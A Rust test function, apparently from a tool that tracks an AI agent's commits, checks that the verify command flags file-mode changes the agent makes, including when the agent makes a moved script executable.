fn a_mode_the_agent_sets_is_recorded_as_its_own() {
    let (repo, _) = project_with_hooks();
    repo.write("deploy.sh", "#!/bin/sh\nrsync -a build/ prod:/srv/app/\n");
    let commit = git_with_hooks(&repo.root, &["add", "-A"]);
    assert!(commit.status.success());
    let commit = git_with_hooks(&repo.root, &["commit", "-q", "-m", "deploy"]);
    assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
    let from = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    run_agent_with_hooks(&repo, "chmod +x deploy.sh\n");
    let commit = git_with_hooks(&repo.root, &["commit", "-q", "-am", "make deploy.sh executable"]);
    assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
    let failing = |from: &str| {
        let verify = json_of(&repo.root, &["verify", &format!("{from}..HEAD"), "--format", "json"]);
        let failing: Vec<(String, String)> = verify["failures"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|f| Some((f["path"].as_str()?.to_string(), f["kind"].as_str()?.to_string())))
            .collect();
        (failing, verify)
    };
    let (found, verify) = failing(&from);
    assert_eq!(found, [("deploy.sh".to_string(), "file-mode".to_string())], "{verify:#}");

    // A script it moves and makes executable: the mode is compared with
    // the moved file's.
    repo.write("clean.sh", "#!/bin/sh\nrm -rf build/\n");
    assert!(git_with_hooks(&repo.root, &["add", "clean.sh"]).status.success());
    assert!(git_with_hooks(&repo.root, &["commit", "-q", "-m", "clean"]).status.success());
    let from = repo.git(&["rev-parse", "HEAD"]).trim().to_string();
    run_agent_with_hooks(&repo, "mv clean.sh tidy.sh && chmod +x tidy.sh\n");
    assert!(git_with_hooks(&repo.root, &["add", "-A"]).status.success());
    let commit = git_with_hooks(&repo.root, &["commit", "-q", "-m", "rename the clean script"]);
    assert!(commit.status.success(), "{}", String::from_utf8_lossy(&commit.stderr));
    let (found, verify) = failing(&from);
    assert_eq!(found, [("tidy.sh".to_string(), "file-mode".to_string())], "{verify:#}");
}
